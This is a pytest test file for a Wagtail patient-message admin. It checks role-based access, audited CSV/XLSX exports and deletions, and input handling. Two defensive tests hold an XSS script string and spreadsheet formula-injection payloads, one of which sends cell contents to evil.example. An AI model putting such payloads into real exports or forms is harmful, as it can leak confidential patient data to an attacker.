"""Who may list, read, export and delete patients' messages: coordinators and superusers, nobody else.

Each demo role is tried against each submissions URL of both language versions of the form, the
way someone guessing URLs would.
"""

import codecs
import csv
import datetime as dt
import io

import openpyxl
import pytest
from bs4 import BeautifulSoup
from django.urls import reverse
from django.utils import timezone
from messages_support import post_message
from wagtail.models import ModelLogEntry

from casepages.messages import audit
from casepages.models import PatientMessage

pytestmark = pytest.mark.django_db

SECRET = "My lupus diagnosis is confidential"
REFUSED_ROLES = ["editor", "translator", "reviewer"]
ALLOWED_ROLES = ["coordinator", "admin"]


@pytest.fixture
def messages(client, english, chinese):
    """One message through each language's form."""
    assert post_message(client, english, message=SECRET, case_code="SLE-03").status_code == 303
    assert post_message(client, chinese, name="王芳", message="我的病情", REMOTE_ADDR="192.0.2.9").status_code == 303
    client.logout()
    return list(PatientMessage.objects.order_by("pk"))


def submission_urls(form, messages):
    selected = "&".join(f"selected-submissions={message.pk}" for message in messages)
    listing = reverse("wagtailforms:list_submissions", args=[form.pk])
    return {
        "forms index": reverse("wagtailforms:index"),
        "list": listing,
        "list results": reverse("wagtailforms:list_submissions_results", args=[form.pk]),
        "csv export": f"{listing}?export=csv",
        "xlsx export": f"{listing}?export=xlsx",
        "delete confirmation": f"{reverse('wagtailforms:delete_submissions', args=[form.pk])}?{selected}",
    }


def refused(response):
    """403, or a redirect away (to the login page or the dashboard), with nothing of the message in it."""
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return response.status_code in (302, 403) and SECRET.encode() not in body and "王芳".encode() not in body


@pytest.mark.parametrize("role", REFUSED_ROLES + [None])
@pytest.mark.parametrize("language", ["en", "zh-hans"])
def test_other_roles_cannot_reach_any_messages_url(client, client_for, english, chinese, messages, role, language):
    browser = client_for(role) if role else client
    form = {"en": english, "zh-hans": chinese}[language].form
    for name, url in submission_urls(form, messages).items():
        assert refused(browser.get(url)), f"{role} reached {name}"
    delete = reverse("wagtailforms:delete_submissions", args=[form.pk])
    assert refused(browser.post(f"{delete}?selected-submissions={messages[0].pk}"))
    assert PatientMessage.objects.count() == 2


@pytest.mark.parametrize("role", REFUSED_ROLES)
def test_other_roles_see_no_forms_menu_and_no_count_in_the_page_editor(client_for, english, messages, role):
    browser = client_for(role)
    dashboard = browser.get(reverse("wagtailadmin_home")).content.decode()
    assert reverse("wagtailforms:index") not in dashboard
    editor = browser.get(reverse("wagtailadmin_pages:edit", args=[english.form.pk]))
    if editor.status_code == 200:  # editors and reviewers edit the form page, translators do not
        html = editor.content.decode()
        assert reverse("wagtailforms:list_submissions", args=[english.form.pk]) not in html
        assert "message form page submissions" not in html.lower()


@pytest.mark.parametrize("role", ALLOWED_ROLES)
def test_coordinators_list_every_language_in_one_list(client_for, english, chinese, messages, role):
    browser = client_for(role)
    index = browser.get(reverse("wagtailforms:index"))
    assert index.status_code == 200
    links = {a["href"] for a in BeautifulSoup(index.content, "html.parser").select("a[href*='/submissions/']")}
    listing_url = reverse("wagtailforms:list_submissions", args=[english.form.pk])
    assert listing_url in links
    assert reverse("wagtailforms:list_submissions", args=[chinese.form.pk]) not in links

    listing = browser.get(listing_url)
    assert listing.status_code == 200
    text = BeautifulSoup(listing.content, "html.parser").get_text()
    assert SECRET in text and "王芳" in text and "SLE-03" in text
    for heading in ("Your name", "Language", "Case", "Notification"):
        assert heading in text


def test_coordinators_have_no_page_rights(client_for, english):
    browser = client_for("coordinator")
    assert browser.get(reverse("wagtailadmin_pages:edit", args=[english.form.pk])).status_code in (302, 403)
    assert browser.get(reverse("wagtailadmin_pages:add_subpage", args=[english.home.pk])).status_code in (302, 403)


def test_coordinators_export_csv_and_every_export_is_audited(client_for, english, demo_users, messages):
    browser = client_for("coordinator")
    response = browser.get(reverse("wagtailforms:list_submissions", args=[english.form.pk]), {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [row["Your message"] for row in rows] == [SECRET, "我的病情"]
    assert [row["Case"] for row in rows] == ["SLE-03", ""]
    assert rows[1]["Your name"] == "王芳"

    entry = ModelLogEntry.objects.get(action=audit.EXPORT)
    assert entry.data["form_page"] == english.form.pk
    assert entry.user == demo_users["coordinator"]
    assert entry.data["format"] == "csv" and entry.data["count"] == 2
    assert entry.message == "Exported 2 patient messages as CSV"


def test_coordinators_export_xlsx(client_for, english, messages):
    browser = client_for("coordinator")
    response = browser.get(reverse("wagtailforms:list_submissions", args=[english.form.pk]), {"export": "xlsx"})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    headings, *rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    column = headings.index("Your message")
    assert [row[column] for row in rows] == [SECRET, "我的病情"]
    assert ModelLogEntry.objects.get(action=audit.EXPORT).data["format"] == "xlsx"


def test_coordinators_delete_messages_and_the_deletion_is_audited(client_for, english, demo_users, messages):
    browser = client_for("coordinator")
    url = reverse("wagtailforms:delete_submissions", args=[english.form.pk])
    selected = f"selected-submissions={messages[0].pk}&selected-submissions={messages[1].pk}"
    confirmation = browser.get(f"{url}?{selected}")
    assert confirmation.status_code == 200
    response = browser.post(f"{url}?{selected}")
    assert response.status_code == 302
    assert not PatientMessage.objects.exists()
    entry = ModelLogEntry.objects.get(action=audit.DELETE)
    assert entry.user == demo_users["coordinator"] and entry.data["count"] == 2


def test_script_in_a_message_is_escaped_in_the_admin_and_made_inert_in_the_export(client, client_for, english):
    script = '<script>alert("pwned")</script>'
    post_message(client, english, name=script, condition='=HYPERLINK("http://evil.example","click")')
    browser = client_for("coordinator")
    listing_url = reverse("wagtailforms:list_submissions", args=[english.form.pk])
    html = browser.get(listing_url).content.decode()
    assert script not in html
    assert "&lt;script&gt;alert(&quot;pwned&quot;)&lt;/script&gt;" in html

    exported = browser.get(listing_url, {"export": "csv"})
    [row] = list(csv.DictReader(io.StringIO(b"".join(exported.streaming_content).decode())))
    assert row["Your name"] == script
    assert row["Condition or diagnosis"] == '\'=HYPERLINK("http://evil.example","click")'

    exported = browser.get(listing_url, {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(exported.streaming_content))).active
    cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row}
    assert cells['=HYPERLINK("http://evil.example","click")'] == "s"


def test_the_list_and_the_export_cost_the_same_queries_for_many_messages(
    client_for, english, chinese, django_assert_max_num_queries
):
    for number in range(60):
        pages = english if number % 2 else chinese
        PatientMessage.objects.create(
            page=pages.form,
            case=pages.sle03,
            language=pages.locale.language_code,
            form_data={"name": f"Patient {number}", "message": f"Message {number}"},
        )
    browser = client_for("coordinator")
    listing_url = reverse("wagtailforms:list_submissions", args=[english.form.pk])
    with django_assert_max_num_queries(25):
        assert browser.get(listing_url).status_code == 200
    with django_assert_max_num_queries(25):
        response = browser.get(listing_url, {"export": "csv"})
        rows = b"".join(response.streaming_content).decode().splitlines()
    assert len(rows) == 61


def local_minute(moment):
    """A moment as coordinators read it: the site's time zone, to the minute."""
    return timezone.localtime(moment).strftime("%Y-%m-%d %H:%M")


def test_the_csv_export_opens_in_excel_and_gives_the_times_the_list_shows(client_for, english, messages):
    browser = client_for("coordinator")
    listing_url = reverse("wagtailforms:list_submissions", args=[english.form.pk])
    body = b"".join(browser.get(listing_url, {"export": "csv"}).streaming_content)
    # Excel reads a CSV as UTF-8 only when it starts with the byte order mark.
    assert body.startswith(codecs.BOM_UTF8)
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    expected = [local_minute(message.submit_time) for message in messages]
    assert [row["Submission date"] for row in rows] == expected
    assert expected[0] != messages[0].submit_time.astimezone(dt.UTC).strftime("%Y-%m-%d %H:%M")
    listed = BeautifulSoup(browser.get(listing_url).content, "html.parser").get_text(" ")
    assert all(moment in listed for moment in expected)


def test_the_xlsx_export_gives_local_times_too(client_for, english, messages):
    browser = client_for("coordinator")
    response = browser.get(reverse("wagtailforms:list_submissions", args=[english.form.pk]), {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    headings, *rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    column = headings.index("Submission date")
    assert [row[column] for row in rows] == [local_minute(message.submit_time) for message in messages]


def test_a_formula_in_a_form_label_is_inert_in_both_exports(client_for, english, messages):
    formula = '=HYPERLINK("https://evil.example/?x="&B2,"Country")'
    english.form.form_fields.filter(clean_name="country").update(label=formula)
    browser = client_for("coordinator")
    listing_url = reverse("wagtailforms:list_submissions", args=[english.form.pk])
    body = b"".join(browser.get(listing_url, {"export": "csv"}).streaming_content).decode("utf-8-sig")
    assert "'" + formula in next(csv.reader(io.StringIO(body)))

    response = browser.get(listing_url, {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    [heading] = [cell for cell in next(sheet.iter_rows()) if cell.value == formula]
    assert heading.data_type == "s"


@pytest.mark.parametrize("selection", ["abc", "1.5", "", "9" * 40])
def test_a_selection_that_is_not_a_message_number_deletes_nothing_and_does_not_fail(
    client_for, english, messages, selection
):
    browser = client_for("coordinator")
    browser.raise_request_exception = False
    url = reverse("wagtailforms:delete_submissions", args=[english.form.pk]) + f"?selected-submissions={selection}"
    assert browser.get(url).status_code == 200
    assert browser.post(url).status_code == 302
    assert PatientMessage.objects.count() == 2


def test_only_those_who_read_messages_see_the_record_of_exports_and_deletions(client, client_for, english, messages):
    coordinator = client_for("coordinator")
    listing_url = reverse("wagtailforms:list_submissions", args=[english.form.pk])
    b"".join(coordinator.get(listing_url, {"export": "csv"}).streaming_content)
    delete_url = reverse("wagtailforms:delete_submissions", args=[english.form.pk])
    coordinator.post(f"{delete_url}?selected-submissions={messages[0].pk}")
    coordinator.logout()
    history_urls = ["/admin/reports/site-history/", f"/admin/pages/{english.form.pk}/history/"]
    for role in REFUSED_ROLES:
        browser = client_for(role)
        for url in history_urls:
            text = BeautifulSoup(browser.get(url).content, "html.parser").get_text(" ")
            assert "patient message" not in text, (role, url)
        browser.logout()
    for role in ALLOWED_ROLES:
        text = BeautifulSoup(client_for(role).get("/admin/reports/site-history/").content, "html.parser").get_text(" ")
        assert "Exported 2 patient messages as CSV" in text and "Deleted 1 patient message" in text, role
